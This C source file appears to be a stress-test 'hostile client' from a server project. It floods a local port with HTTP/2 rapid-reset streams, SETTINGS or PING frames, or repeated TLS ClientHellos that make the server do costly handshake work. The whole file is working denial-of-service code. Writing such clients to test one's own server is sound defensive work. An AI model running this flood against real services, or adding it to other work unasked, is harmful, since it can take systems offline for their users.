/* One hostile client:  flood PORT WAY SECONDS. Ways, over HTTP/2 in clear: reset (streams that are begun and cancelled), settings, ping;
 * over TLS: hello (a handshake that ends for us where it has cost the server the most).
 *
 * It writes as fast as the server reads, reads what comes, and begins again when it is cut off. Prints how many frames, or
 * handshakes, it has sent. */
#include "tls_client.h"

#include <poll.h>
#include <stdbool.h>
#include <unistd.h>

#define FRAMES 500u /* in a piece */
#define FRAME_MAX 64u
#define HELLO_MAX 2048u

static struct {
    unsigned char at[FRAMES * FRAME_MAX];
    size_t len, sent;
} piece;

static uint64_t until, count;

/* ---- HTTP/2 ------------------------------------------------------------------------------------ */

static void put(const void *data, size_t len)
{
    memcpy(piece.at + piece.len, data, len);
    piece.len += len;
}

static void put_frame(uint8_t type, uint8_t flags, uint32_t id, const void *data, size_t len)
{
    unsigned char head[9] = {0,
                             0,
                             (unsigned char)len,
                             type,
                             flags,
                             (unsigned char)(id >> 24),
                             (unsigned char)(id >> 16),
                             (unsigned char)(id >> 8),
                             (unsigned char)id};

    put(head, sizeof head);
    put(data, len);
}

/* id: the next stream's. */
static void fill(const char *way, uint32_t *id)
{
    static const char get[] = "\x82\x86\x84\x41\x09localhost", cancel[] = "\0\0\0\x08";

    piece.len = piece.sent = 0;
    for (unsigned i = 0; i < FRAMES; i++) {
        if (!strcmp(way, "settings")) {
            put_frame(4, 0, 0, "", 0);
        } else if (!strcmp(way, "ping")) {
            put_frame(6, 0, 0, "floodfld", 8);
        } else {
            put_frame(1, 5, *id, get, sizeof get - 1);
            put_frame(3, 0, *id, cancel, 4);
            *id += 2;
        }
    }
}

/* false: it is cut off. */
static bool go_on(int fd, const char *way, uint32_t *id)
{
    char rubbish[65536];
    struct pollfd p = {.fd = fd, .events = POLLIN | POLLOUT};
    ssize_t n;

    poll(&p, 1, 10);
    if (p.revents & (POLLERR | POLLHUP))
        return false;
    if (p.revents & POLLIN && recv(fd, rubbish, sizeof rubbish, MSG_DONTWAIT) == 0)
        return false;
    if (!(p.revents & POLLOUT))
        return true;
    n = send(fd, piece.at + piece.sent, piece.len - piece.sent, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n < 0)
        return errno == EAGAIN;
    piece.sent += (size_t)n;
    if (piece.sent == piece.len) {
        count += FRAMES;
        fill(way, id);
    }
    return true;
}

static void flood_frames(int port, const char *way)
{
    while (now_ns() < until) {
        int fd = dial_port(port, 0);
        uint32_t id = 1;

        fill(way, &id);
        if (send(fd, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", 33, MSG_NOSIGNAL) ==
            33) {
            while (now_ns() < until && go_on(fd, way, &id))
                ;
        }
        close(fd);
    }
}

/* ---- TLS --------------------------------------------------------------------------------------- */

static int keep(void *ud, const unsigned char *data, size_t len)
{
    (void)ud;
    if (piece.len + len > HELLO_MAX)
        fail("a long ClientHello");
    put(data, len);
    return (int)len;
}

static int nothing(void *ud, unsigned char *to, size_t size)
{
    (void)ud;
    (void)to;
    (void)size;
    return MBEDTLS_ERR_SSL_WANT_READ;
}

static void flood_hello(int port)
{
    mbedtls_ssl_context ssl;
    char answer[4096];

    tls_wire();
    transport.open = NULL; /* what follows the hello is not spoken */
    mbedtls_ssl_init(&ssl);
    if (mbedtls_ssl_setup(&ssl, &tls.conf) || mbedtls_ssl_set_hostname(&ssl, NULL))
        fail("no TLS");
    mbedtls_ssl_set_bio(&ssl, NULL, keep, nothing, NULL);
    mbedtls_ssl_handshake(&ssl);
    while (now_ns() < until) {
        int fd = dial_port(port, 0);

        if (send(fd, piece.at, piece.len, MSG_NOSIGNAL) == (ssize_t)piece.len &&
            recv(fd, answer, sizeof answer, 0) > 0)
            count++;
        close(fd);
    }
}

int main(int argc, char **argv)
{
    if (argc != 4)
        fail("flood PORT reset|settings|ping|hello SECONDS");
    until = now_ns() + (uint64_t)(duration("SECONDS", argv[3]) * (double)SECOND);
    if (!strcmp(argv[2], "hello"))
        flood_hello((int)number("PORT", argv[1], 65535));
    else
        flood_frames((int)number("PORT", argv[1], 65535), argv[2]);
    printf("%llu\n", (unsigned long long)count);
    return 0;
}
